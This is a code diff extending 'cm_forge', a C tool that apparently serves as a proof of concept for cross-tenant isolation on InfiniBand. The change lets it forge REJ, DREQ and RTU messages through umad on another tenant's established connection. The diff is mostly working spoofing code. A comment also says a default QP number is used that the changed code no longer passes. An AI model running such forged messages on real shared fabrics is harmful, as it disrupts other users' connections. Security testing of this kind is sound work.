@@ -1,7 +1,8 @@
 // SPDX-License-Identifier: GPL-2.0
 /*
- * cm_forge UMAD DEVICE SGID_INDEX SRC DST PORT COMM_ID [MSG [QPN]] - a CM
- * message written through umad, naming a comm ID that is not the sender's.
+ * cm_forge UMAD DEVICE SGID_INDEX SRC DST PORT COMM_ID [MSG [ID [QPN]]] - a
+ * CM message written through umad, naming a comm ID that is not the
+ * sender's.
  *
  * What a tenant with a umad node of its vdevice can do: creates an RC QP
  * on DEVICE (so that the request names a live QP of the device), registers
@@ -13,6 +14,11 @@
  * instead, on the connection whose local comm ID is COMM_ID and that has
  * no peer yet (remote comm ID 0: a request still unanswered): what
  * another tenant's connection looks like to a forger who read its ID.
+ * Given a remote comm ID ID (hex), the message is one of the established
+ * connection between COMM_ID and ID, as COMM_ID's side sends it: a REJ of
+ * something other than a REQ (a consumer's reason, which ib_cm looks up
+ * by both IDs and which ends an established connection), a DREQ naming
+ * the peer's QP number QPN (hex; default the forger's RC QP), an RTU.
  * MSG sidr_req writes a SIDR_REQ to PORT of DST in the UDP port space
  * under request ID COMM_ID; sidr_rep a successful SIDR_REP answering
  * request COMM_ID with QP number QPN (hex; default the forger's RC QP, of
@@ -26,6 +32,7 @@
 #include <endian.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <stdbool.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -49,6 +56,8 @@
 #define CM_SIDR_REP	0x0018
 #define CM_SIDR_QKEY	0x10018	/* a SIDR_REP with a privileged Q_Key */
 #define REJ_TIMEOUT	1	/* the reason ib_cm gives up a REQ with */
+#define REJ_CONSUMER	28	/* a consumer's reason */
+#define REJ_FOR_OTHER	2	/* a REJ of neither REQ nor REP */
 #define RDMA_PS_TCP	0x0106
 #define RDMA_PS_UDP	0x0111
 
@@ -97,19 +106,25 @@ static void build_hdr(uint8_t *mad, uint16_t attr)
 }
 
 /*
- * A REJ of the REQ, a DREQ or an RTU (IBTA 12.6.7, 12.6.10, 12.6.9) of the
- * connection whose local comm ID is @comm_id, before its peer answered
+ * A REJ, a DREQ or an RTU (IBTA 12.6.7, 12.6.10, 12.6.9) of the connection
+ * whose local comm ID is @comm_id: before its peer answered (@remote_id
+ * 0), a REJ of the REQ; else of the established connection with
+ * @remote_id, whose peer's QP is @qpn
  */
 static void build_conn_msg(uint8_t *mad, uint16_t attr, uint32_t comm_id,
-			   uint32_t qpn)
+			   uint32_t remote_id, uint32_t qpn)
 {
 	build_hdr(mad, attr);
 	put32(mad, HDR + 0, comm_id);
-	put32(mad, HDR + 4, 0);			/* remote comm ID: none yet */
-	if (attr == CM_REJ)
+	put32(mad, HDR + 4, remote_id);
+	if (attr == CM_REJ && !remote_id) {
 		put16(mad, HDR + 10, REJ_TIMEOUT);	/* rejects the REQ */
-	else if (attr == CM_DREQ)
+	} else if (attr == CM_REJ) {
+		put8(mad, HDR + 8, REJ_FOR_OTHER << 6);
+		put16(mad, HDR + 10, REJ_CONSUMER);
+	} else if (attr == CM_DREQ) {
 		put32(mad, HDR + 8, qpn << 8);	/* remote QPN */
+	}
 }
 
 /* cma's header at @cma: version 0, IPv4, port, source, destination */
@@ -192,8 +207,9 @@ int main(int argc, char **argv)
 		{ "rtu", CM_RTU }, { "sidr_req", CM_SIDR_REQ },
 		{ "sidr_rep", CM_SIDR_REP }, { "sidr_rep_qkey", CM_SIDR_QKEY },
 	};
-	uint32_t attr = 0, qpn = 0;
+	uint32_t attr = 0, qpn = 0, remote_id = 0;
 	uint32_t comm_id;
+	bool conn_msg;
 	int fd, sgid;
 	uint16_t port;
 	size_t i;
@@ -204,13 +220,23 @@ int main(int argc, char **argv)
 			attr = msgs[i].attr;
 	if (argc == 8)
 		attr = CM_REQ;
-	if (argc == 10 && attr == CM_SIDR_REP)
-		qpn = strtoul(argv[9], NULL, 16);
-	else if (argc > 9)
+	conn_msg = attr == CM_REJ || attr == CM_DREQ || attr == CM_RTU;
+	end = NULL;
+	if (argc == 10 && attr == CM_SIDR_REP) {
+		qpn = strtoul(argv[9], &end, 16);
+	} else if (conn_msg && argc >= 10 && argc <= 11) {
+		remote_id = strtoul(argv[9], &end, 16);
+		if (!*end && argc == 11 && attr == CM_DREQ)
+			qpn = strtoul(argv[10], &end, 16);
+		else if (argc == 11)
+			attr = 0;
+	} else if (argc > 9) {
 		attr = 0;
-	if (!attr || inet_pton(AF_INET, argv[4], &src) != 1 ||
+	}
+	if (!attr || (end && (*end || end == argv[argc - 1])) ||
+	    inet_pton(AF_INET, argv[4], &src) != 1 ||
 	    inet_pton(AF_INET, argv[5], &dst) != 1) {
-		fprintf(stderr, "usage: cm_forge UMAD DEVICE SGID_INDEX SRC DST PORT COMM_ID [req|rej|dreq|rtu|sidr_req|sidr_rep [QPN]|sidr_rep_qkey]\n");
+		fprintf(stderr, "usage: cm_forge UMAD DEVICE SGID_INDEX SRC DST PORT COMM_ID [req|rej [ID]|dreq [ID [QPN]]|rtu [ID]|sidr_req|sidr_rep [QPN]|sidr_rep_qkey]\n");
 		return 2;
 	}
 	sgid = atoi(argv[3]);
@@ -271,7 +297,8 @@ int main(int argc, char **argv)
 		build_sidr_rep((uint8_t *)um->data, comm_id, qpn, 0x80010000,
 			       port);
 	else
-		build_conn_msg((uint8_t *)um->data, attr, comm_id, qp->qp_num);
+		build_conn_msg((uint8_t *)um->data, attr, comm_id, remote_id,
+			       qpn);
 	if (write(fd, um, sizeof(*um) + MAD_SIZE) != (ssize_t)(sizeof(*um) + MAD_SIZE)) {
 		printf("write: %s\n", strerror(errno));
 		return 1;
